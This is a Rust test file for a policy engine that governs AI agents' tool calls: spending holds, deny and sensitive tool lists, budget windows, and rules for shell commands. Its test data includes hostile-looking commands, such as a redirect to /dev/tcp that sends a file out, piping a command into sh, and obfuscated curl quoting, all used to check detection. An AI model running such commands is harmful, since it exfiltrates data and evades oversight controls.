use super::*;

fn load_err(text: &str) -> String {
    Policy::from_json_str(text).unwrap_err().to_string()
}

#[test]
fn omitted_keys_fall_back_one_by_one() {
    let policy = Policy::from_json_str(r#"{"holdAboveAmount": 5}"#).unwrap();
    assert_eq!(policy.hold_above_amount(), 5.0);
    assert_eq!(policy.deny_tools(), Policy::default().deny_tools());
    assert_eq!(
        policy.sensitive_tools(),
        Policy::default().sensitive_tools()
    );

    let policy = Policy::from_json_str(r#"{"denyTools": []}"#).unwrap();
    assert_eq!(policy.hold_above_amount(), DEFAULT_HOLD_ABOVE_AMOUNT);
    assert!(policy.deny_tools().patterns().is_empty());
    assert_eq!(
        policy.sensitive_tools(),
        Policy::default().sensitive_tools()
    );

    assert_eq!(Policy::from_json_str("{}").unwrap(), Policy::default());
    assert_eq!(Policy::default().hold_above_total(), None);
    assert!(Policy::default().allowed_tools("anyone").is_none());
}

#[test]
fn strict_failures_name_the_key() {
    let cases = [
        ("{", "malformed JSON"),
        ("{\n  \"holdAboveAmount\": 1,,\n}", "line 2 column"),
        ("", "empty"),
        ("[]", "top-level value must be an object, found an array"),
        (
            r#"{"holdAboveAmout": 1}"#,
            "unknown key `holdAboveAmout`; did you mean `holdAboveAmount`?",
        ),
        (r#"{"denytools": []}"#, "did you mean `denyTools`?"),
        (r#"{"colour": "red"}"#, "the known keys are"),
        (
            r#"{"holdAboveAmount": "100"}"#,
            "key `holdAboveAmount`: expected a number, found a string",
        ),
        (
            r#"{"holdAboveAmount": -1}"#,
            "key `holdAboveAmount`: expected a finite number ≥ 0",
        ),
        (r#"{"holdAboveAmount": 1e999}"#, "malformed JSON"),
        (
            r#"{"denyTools": "shell_exec"}"#,
            "key `denyTools`: expected an array",
        ),
        (
            r#"{"denyTools": [""]}"#,
            "key `denyTools`: item 0 is an empty tool name",
        ),
        (
            r#"{"sensitiveTools": ["a", 3]}"#,
            "key `sensitiveTools`: item 1 must be a tool name",
        ),
        (
            r#"{"denyTools": [], "denyTools": ["x"]}"#,
            "duplicate key `denyTools`",
        ),
        (
            r#"{"holdAboveTotal": -5}"#,
            "key `holdAboveTotal`: expected a finite number ≥ 0",
        ),
        (r#"{"holdAboveTotl": 5}"#, "did you mean `holdAboveTotal`?"),
        (
            r#"{"taintScope": "team"}"#,
            "key `taintScope`: expected \"agent\" or \"crew\", found \"team\"",
        ),
        (
            r#"{"taintScope": "Crew"}"#,
            "found \"Crew\"; did you mean \"crew\"?",
        ),
        (
            r#"{"budgetScope": "team"}"#,
            "key `budgetScope`: expected \"agent\" or \"crew\", found \"team\"",
        ),
        (
            r#"{"budgetScope": "agents"}"#,
            "did you mean \"agent\"?",
        ),
        (
            r#"{"budgetScope": true}"#,
            "key `budgetScope`: expected \"agent\" or \"crew\", found true",
        ),
        (r#"{"budgetScop": "crew"}"#, "did you mean `budgetScope`?"),
        (
            r#"{"denyTools": ["shell_exec "]}"#,
            "key `denyTools`: item 0 \"shell_exec \" has white space at its start or end",
        ),
        (
            r#"{"sensitiveTools": ["send\u200bpayment"]}"#,
            "key `sensitiveTools`: item 0 \"send\\u{200b}payment\" holds a control or invisible character",
        ),
        (
            r#"{"untrustedOutputTools": ["fetch_\u0000*"]}"#,
            "holds a control or invisible character",
        ),
        (
            r#"{"agents": {" scout": ["search_web"]}}"#,
            "key `agents`: the agent name \" scout\" has white space",
        ),
        (
            r#"{"agents": {"scout": ["search_web\t"]}}"#,
            "key `agents.scout`: item 0",
        ),
        (
            r#"{"toolArgs": {"send_payment\u202e": {"schema": {}}}}"#,
            "the tool name \"send_payment\\u{202e}\" holds a control or invisible character",
        ),
        (
            r#"{"holdAboveAmount": 100.0000000000000000001}"#,
            "key `holdAboveAmount`: the number 100.0000000000000000001 is not one a float holds as written (it would be read as 100)",
        ),
        (
            r#"{"holdAboveTotal": 9007199254740993}"#,
            "key `holdAboveTotal`: the number 9007199254740993",
        ),
        (
            r#"{"toolArgs": {"t": {"schema": {"properties": {"n": {"maximum": 100.0000000000000000001}}}}}}"#,
            "key `toolArgs.t.schema.properties.n.maximum`: the number 100.0000000000000000001",
        ),
        (
            r#"{"toolArgs": {"t": {"schema": {"enum": [1, 2, 0.30000000000000000001]}}}}"#,
            "key `toolArgs.t.schema.enum.2`",
        ),
        (
            r#"{"untrustedOutputTools": ["fetch_*_page"]}"#,
            "key `untrustedOutputTools`: item 0 \"fetch_*_page\" has `*` in the middle",
        ),
        (
            r#"{"sensitiveTools": ["*"]}"#,
            "key `sensitiveTools`: item 0 `*` alone is a pattern with an empty prefix",
        ),
        (
            r#"{"agents": ["scout"]}"#,
            "key `agents`: expected an object",
        ),
        (
            r#"{"agents": {"scout": "search_web"}}"#,
            "key `agents.scout`: expected an array",
        ),
        (
            r#"{"agents": {"scout": ["**"]}}"#,
            "key `agents.scout`: item 0",
        ),
    ];
    for (text, expected) in cases {
        let message = load_err(text);
        assert!(message.contains(expected), "{text:?}: {message}");
    }
}

#[test]
fn the_budget_is_per_agent_unless_the_policy_says_crew() {
    assert_eq!(Policy::default().budget_scope(), BudgetScope::Agent);
    let crew = Policy::from_json_str(r#"{"budgetScope": "crew", "holdAboveTotal": 300}"#).unwrap();
    assert_eq!(crew.budget_scope(), BudgetScope::Crew);
    // A scope for a budget there is not: its author expected a bound.
    let err = load_err(r#"{"budgetScope": "crew"}"#);
    assert!(
        err.contains("key `budgetScope`: \"crew\" scopes the budget `holdAboveTotal`, which the policy does not set"),
        "{err}"
    );
    let agent = Policy::from_json_str(r#"{"budgetScope": "agent"}"#).unwrap();
    assert_eq!(agent, Policy::default());
}

#[test]
fn a_budget_window_is_an_hour_a_day_or_a_week() {
    assert_eq!(Policy::default().budget_window(), None);
    let daily = Policy::from_json_str(r#"{"holdAboveTotal": 300, "budgetWindow": "day"}"#).unwrap();
    assert_eq!(daily.budget_window(), Some(BudgetWindow::Day));
    for (text, expected) in [
        (
            r#"{"budgetWindow": "day"}"#,
            "key `budgetWindow`: a window spans the budget `holdAboveTotal`, which the policy does not set",
        ),
        (
            r#"{"holdAboveTotal": 1, "budgetWindow": "Day"}"#,
            "did you mean \"day\"?",
        ),
        (
            r#"{"holdAboveTotal": 1, "budgetWindow": "month"}"#,
            "key `budgetWindow`: expected \"hour\", \"day\" or \"week\", found \"month\"",
        ),
        (r#"{"holdAboveTotal": 1, "budgetWindow": 24}"#, "key `budgetWindow`"),
        (r#"{"budgetWindo": "day"}"#, "did you mean `budgetWindow`?"),
    ] {
        let message = load_err(text);
        assert!(message.contains(expected), "{text}: {message}");
    }
}

#[test]
fn windows_start_on_utc_calendar_boundaries() {
    // 2026-12-02T13:45:10Z, a Wednesday.
    let t = 1_796_219_110;
    let hour = BudgetWindow::Hour.start_of(t);
    let day = BudgetWindow::Day.start_of(t);
    let week = BudgetWindow::Week.start_of(t);
    let show = |s: u64| {
        humantime::format_rfc3339_seconds(std::time::UNIX_EPOCH + std::time::Duration::from_secs(s))
            .to_string()
    };
    assert_eq!(show(t), "2026-12-02T13:45:10Z");
    assert_eq!(show(hour), "2026-12-02T13:00:00Z");
    assert_eq!(show(day), "2026-12-02T00:00:00Z");
    assert_eq!(show(week), "2026-11-30T00:00:00Z", "the Monday before");
    // A boundary belongs to the window it starts.
    assert_eq!(BudgetWindow::Week.start_of(week), week);
    assert_eq!(BudgetWindow::Week.start_of(week - 1), week - 7 * 86_400);
    assert_eq!(BudgetWindow::Day.start_of(day - 1), day - 86_400);
    assert_eq!(
        BudgetWindow::Week.start_of(0),
        0,
        "before the first Monday of 1970"
    );
}

#[test]
fn numbers_a_float_holds_as_written_load() {
    let policy = Policy::from_json_str(
        r#"{"holdAboveAmount": 1e2, "holdAboveTotal": 99.99, "toolArgs": {"t": {"schema": {
                "properties": {"n": {"maximum": 100.0, "multipleOf": 0.01, "enum": [0.1, -0, 5e-324]}}}}}}"#,
    )
    .unwrap();
    assert_eq!(policy.hold_above_amount(), 100.0);
    assert_eq!(policy.hold_above_total(), Some(99.99));
}

#[test]
fn building_in_code_has_the_same_checks() {
    let mut settings = PolicySettings {
        hold_above_amount: f64::NAN,
        ..PolicySettings::default()
    };
    assert!(Policy::new(settings.clone()).is_err());
    settings.hold_above_amount = -0.5;
    assert!(Policy::new(settings.clone()).is_err());
    settings.hold_above_amount = f64::INFINITY;
    assert!(Policy::new(settings.clone()).is_err());
    settings.hold_above_amount = 10.0;
    settings.hold_above_total = Some(f64::NAN);
    assert!(Policy::new(settings.clone()).is_err());
    settings.hold_above_total = None;
    settings.deny_tools.push("a*b".into());
    assert!(Policy::new(settings.clone()).is_err());
    settings.deny_tools.pop();
    settings.sensitive_tools.push(String::new());
    assert!(Policy::new(settings).is_err());
}

#[test]
fn the_example_policy_loads_and_shows_every_key() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("policy.example.json");
    Policy::load(&path).unwrap();
    let text = std::fs::read_to_string(&path).unwrap();
    // The coding agents' keys are shown by their own pack, policies/claude-code.json.
    for key in KEYS.iter().filter(|k| !["commands", "paths"].contains(k)) {
        assert!(
            text.contains(&format!("\"{key}\"")),
            "policy.example.json lacks {key}"
        );
    }
}

#[test]
fn the_policy_packs_load() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("policies");
    let mut loaded = 0;
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "json") {
            Policy::load(&path).unwrap_or_else(|e| panic!("{e}"));
            loaded += 1;
        }
    }
    assert!(loaded >= 2);
}

#[test]
fn tool_names_compare_exactly() {
    let policy = Policy::default();
    assert!(policy.is_sensitive("send_payment"));
    assert!(!policy.is_sensitive("Send_Payment"));
    assert!(!policy.is_sensitive("send_payment "));
}

#[test]
fn prefix_patterns_cover_a_tool_family() {
    let policy = Policy::from_json_str(r#"{"sensitiveTools": ["mcp__github__*"]}"#).unwrap();
    assert!(policy.is_sensitive("mcp__github__create_issue"));
    assert!(policy.is_sensitive("mcp__github__"));
    assert!(!policy.is_sensitive("mcp__gitlab__create_issue"));
    assert!(!policy.is_sensitive("MCP__github__create_issue"));
}

#[test]
fn agents_map_to_their_tools_with_a_default_entry() {
    let policy = Policy::from_json_str(
        r#"{"agents": {"scout": ["search_web", "fetch_*"], "*": ["search_web"]}}"#,
    )
    .unwrap();
    assert!(policy.allowed_tools("scout").unwrap().matches("fetch_page"));
    assert!(!policy.allowed_tools("scout").unwrap().matches("send_email"));
    assert!(!policy
        .allowed_tools("stranger")
        .unwrap()
        .matches("fetch_page"));
    let open = Policy::from_json_str(r#"{"agents": {"scout": ["search_web"]}}"#).unwrap();
    assert!(open.allowed_tools("stranger").is_none());
}

#[test]
fn a_load_error_carries_the_key_path_and_the_suggestion() {
    let parts = |text: &str| {
        let err = Policy::from_json_str(text).unwrap_err();
        (err.key, err.suggestion, err.position.map(|p| p.to_string()))
    };
    let some = |text: &str| Some(text.to_owned());
    for (text, key, suggestion) in [
        (r#"{"denytools": []}"#, some("denytools"), some("denyTools")),
        (r#"{"colour": 1}"#, some("colour"), None),
        (
            r#"{"taintScope": "Crew"}"#,
            some("taintScope"),
            some("crew"),
        ),
        (r#"{"holdAboveAmount": -1}"#, some("holdAboveAmount"), None),
        (
            r#"{"agents": {"scout": ["a*b"]}}"#,
            some("agents.scout"),
            None,
        ),
        (r#"{"budgetScope": "crew"}"#, some("budgetScope"), None),
        (
            r#"{"commands": {"rules": [{"prefix": ["ls"], "decison": "allow"}]}}"#,
            some("commands.rules[0]"),
            some("decision"),
        ),
        (
            r#"{"paths": {"rules": [{"glob": "x", "read": "hold"}], "outsideroot": "x"}}"#,
            some("paths"),
            some("outsideRoot"),
        ),
        (
            r#"{"toolArgs": {"t": {"schema": {"format": "emial"}}}}"#,
            some("toolArgs.t.schema"),
            some("email"),
        ),
        (
            r#"{"toolArgs": {"t": {"schema": {}, "whenTainted": "Allow"}}}"#,
            some("toolArgs.t.whenTainted"),
            some("allow"),
        ),
        (
            r#"{"provenance": {"actionTools": [3]}}"#,
            some("provenance.actionTools"),
            None,
        ),
        (
            r#"{"toolArgs": {"t": {"schema": {"maximum": 100.0000000000000000001}}}}"#,
            some("toolArgs.t.schema.maximum"),
            None,
        ),
    ] {
        assert_eq!(parts(text), (key, suggestion, None), "{text}");
    }
    assert_eq!(parts("[]"), (None, None, None));
    assert_eq!(parts("{\n  \"a\": 1,,\n}"), (None, None, some("2:10")));
}

#[test]
fn never_remember_names_tools_and_the_programs_a_shell_command_runs() {
    let policy = Policy::from_json_str(
        r#"{"neverRemember": ["WebFetch", "mcp__github__*", "Bash(curl)", "Bash(git)", "Bash(python*)"],
            "commands": {"tools": {"Bash": "command"}, "rules": []}}"#,
    )
    .unwrap();
    let call = |tool: &str, args: serde_json::Value| {
        crate::call::Call::from_value(&serde_json::json!({
            "agent": "a", "tool": tool, "args": args, "source": "agent"
        }))
        .unwrap()
    };
    assert!(policy.never_remembers(&call("WebFetch", serde_json::json!({}))));
    assert!(policy.never_remembers(&call("mcp__github__push", serde_json::json!({}))));
    assert!(!policy.never_remembers(&call("Read", serde_json::json!({}))));
    for command in [
        "curl https://x.example",
        "env curl x",
        "/usr/bin/curl x",
        "\"cu\"\"rl\" x",
        "echo $(echo curl) | sh",
        "ls && git push",
        "cat x > /dev/tcp/1.2.3.4/80",
        "./x.sh",
        "python3.12 x.py",
    ] {
        let bash = call("Bash", serde_json::json!({ "command": command }));
        assert!(policy.never_remembers(&bash), "{command}");
    }
    for command in ["ls -la", "cargo test"] {
        let bash = call("Bash", serde_json::json!({ "command": command }));
        assert!(!policy.never_remembers(&bash), "{command}");
    }
    // A shell tool whose command the policy cannot read is never remembered.
    assert!(policy.never_remembers(&call("Bash", serde_json::json!({ "cmd": "ls" }))));
    assert!(Policy::from_json_str(r#"{"neverRemember": ["Bash(curl"]}"#).is_err());
    assert!(Policy::from_json_str(r#"{"grantTtl": "0s"}"#).is_err());
    assert!(Policy::from_json_str(r#"{"grantTtl": 5}"#).is_err());
}

/// The shipped pack loads without running its examples, so they are run here: a pack whose
/// example fails does not build a passing test suite.
#[test]
fn the_shipped_pack_s_examples_hold() {
    let pack: Value = serde_json::from_str(SHIPPED_PACK).unwrap();
    let rules = pack["commands"]["rules"].as_array().unwrap();
    assert!(rules.iter().any(|rule| rule.get("match").is_some()));
    CommandRules::from_json("commands", &pack["commands"]).unwrap();
    // A byte more and it is another policy: its examples run, and a wrong one is an error.
    let mut edited = pack.clone();
    edited["commands"]["rules"][0]["match"] = serde_json::json!(["no-such-program --at-all"]);
    let text = serde_json::to_string(&edited).unwrap();
    let err = Policy::from_json_str(&text).unwrap_err().to_string();
    assert!(err.contains("does not match the rule"), "{err}");
    Policy::from_json_str(SHIPPED_PACK).unwrap();
    // Nor are its numbers read again at each start: each is the number written.
    assert!(crate::amount::first_inexact_number(SHIPPED_PACK.trim()).is_none());
}

/// The sandbox's path rules are compiled only for a tool they judge, and every tool they judge
/// gets them: the file tools (the `paths` key's, else Claude Code's) and the tools whose
/// `pathArguments` are named; a shell command does not.
#[test]
fn the_sandbox_path_rules_are_there_for_every_tool_they_judge() {
    let sandbox =
        r#""sandbox": {"when": "tainted", "hidden": ["~/.ssh"], "readOnly": ["~/.bashrc"]}"#;
    let bare = Policy::from_json_str(&format!("{{{sandbox}}}")).unwrap();
    let with_paths = Policy::from_json_str(&format!(
        r#"{{{sandbox}, "paths": {{"tools": {{"Open": "path"}}, "writeTools": ["Open"],
            "pathArguments": {{"mcp__fs__*": ["source"]}}, "rules": []}}}}"#
    ))
    .unwrap();
    for (policy, judged, not) in [
        (
            &bare,
            &["Write", "Edit", "MultiEdit", "NotebookEdit", "Read"][..],
            &["Bash", "Open"][..],
        ),
        (
            &with_paths,
            &["Open", "mcp__fs__move"][..],
            &["Bash", "Write", "mcp__git__log"][..],
        ),
    ] {
        for tool in judged {
            let rules = policy.sandbox_paths_for(tool);
            assert!(rules.is_some_and(|rules| rules.judges_tool(tool)), "{tool}");
            assert!(!rules.unwrap().rules().is_empty(), "{tool}");
        }
        for tool in not {
            assert!(policy.sandbox_paths_for(tool).is_none(), "{tool}");
            // What compiling them would have said of the tool: nothing.
            let compiled = policy.sandbox_paths().unwrap();
            assert!(!compiled.judges_tool(tool), "{tool}");
        }
    }
    let unsandboxed = Policy::from_json_str("{}").unwrap();
    assert!(unsandboxed.sandbox_paths_for("Write").is_none());
}
